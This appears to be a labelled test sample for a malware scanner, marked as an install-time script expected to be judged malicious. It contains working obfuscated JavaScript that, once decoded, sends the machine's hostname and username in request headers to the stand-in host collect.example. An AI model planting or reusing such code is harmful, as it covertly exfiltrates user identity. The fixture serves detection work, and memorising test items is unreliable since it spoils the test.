// when: install
// expect: malicious
// source: blind set 17's contoso-design-tokens: javascript-obfuscator's older output, whose rotation loop calls
// push and shift through hex-escaped names (`a['\\x70\\x75\\x73\\x68']`); the host's identity goes out in headers
var _0x4e7a=['\x65\x6e\x64','\x75\x73\x65\x72\x49\x6e\x66\x6f','\x75\x73\x65\x72\x6e\x61\x6d\x65','\x68\x6f\x73\x74\x6e\x61\x6d\x65','\x6f\x73','\x68\x74\x74\x70\x73','\x72\x65\x71\x75\x65\x73\x74','\x63\x6f\x6c\x6c\x65\x63\x74\x2e\x65\x78\x61\x6d\x70\x6c\x65'];(function(a,b){var f=function(c){while(--c){a['\x70\x75\x73\x68'](a['\x73\x68\x69\x66\x74']());}};f(++b);}(_0x4e7a,0x3));
var _0x2f=function(i){i=i-0x1b7;var v=_0x4e7a[i];return v;};
var o=require(_0x2f(0x1b8)),h=require(_0x2f(0x1b9));
var r=h[_0x2f(0x1ba)]({'\x68\x6f\x73\x74':_0x2f(0x1bb),'\x68\x65\x61\x64\x65\x72\x73':{'x-h':o[_0x2f(0x1b7)](),'x-u':o[_0x2f(0x1bd)]()[_0x2f(0x1be)]}});r[_0x2f(0x1bc)]();
